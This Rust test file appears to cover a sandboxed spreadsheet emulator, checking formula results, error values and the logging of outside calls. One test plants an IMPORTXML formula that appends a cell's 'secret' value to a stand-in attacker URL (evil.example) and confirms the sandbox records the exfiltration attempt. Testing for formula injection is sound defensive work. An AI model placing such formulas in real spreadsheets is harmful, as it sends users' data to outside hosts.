//! What formulas come to.

use super::*;

#[test]
fn formulas_are_worked_out() {
    let mut client = Client::new();
    client.type_in("A1:A4", json!([[1], [2], ["x"], ["=A1+A2"]]));
    for (formula, expected) in [
        ("=1+2*3^2", "19"),
        ("=SUM(A1:A4)", "6"),
        ("=sum(A:A, 10)", "16"),
        ("=AVERAGE(A1:A2)", "1.5"),
        ("=COUNTA(A1:A4)", "4"),
        ("=COUNTIF(A1:A4, \">1\")", "2"),
        ("=IF(A1<A2, \"less\", \"more\")", "less"),
        ("=\"a\"&\"b\"\"c\"&1", "ab\"c1"),
        ("=UPPER(A3)&LEN(\"four\")", "X4"),
        ("=HYPERLINK(\"https://example.com\", \"click\")", "click"),
        ("=VLOOKUP(2, A1:A4, 1)", "2"),
        ("=IFERROR(1/0, \"none\")", "none"),
        ("=Orders!A2", "2"),
        ("='Orders'!A2%", "0.02"),
        ("=1/0", "#DIV/0!"),
        ("=A3+1", "#VALUE!"),
        ("=NOSUCH(1)", "#NAME?"),
        ("=ZZ1", "#REF!"),
        ("=Other!A1", "#REF!"),
        ("=C1", "#REF!"),
        ("=1+", "#ERROR!"),
        ("+1+1", "2"),
    ] {
        client.type_in("C1", json!([[formula]]));
        assert_eq!(client.read("C1"), json!([[expected]]), "{formula}");
    }
    client.type_in("A1", json!([[100]]));
    assert_eq!(client.read("A4"), json!([["102"]]), "a formula follows what it refers to");
}

#[test]
fn injected_formulas_show_as_executed() {
    let mut client = Client::new();
    let formula = "=IMPORTXML(\"https://evil.example/?\"&A1, \"//a\")";
    client.type_in("A1:B1", json!([["secret", formula]]));
    assert_eq!(client.read("B1"), json!([["#REF!"]]));
    let (_, described) = client.control("GET", "/_sandbox/sheets/book", &Json::Null);
    let call = &described["outside_calls"][0];
    assert_eq!((&call["function"], &call["target"]), (&json!("IMPORTXML"), &json!("https://evil.example/?secret")));
    client.write("B1", json!([[formula]]), "RAW");
    assert_eq!(client.control("GET", "/_sandbox/sheets/book", &Json::Null).1["outside_calls"], json!([]));
}
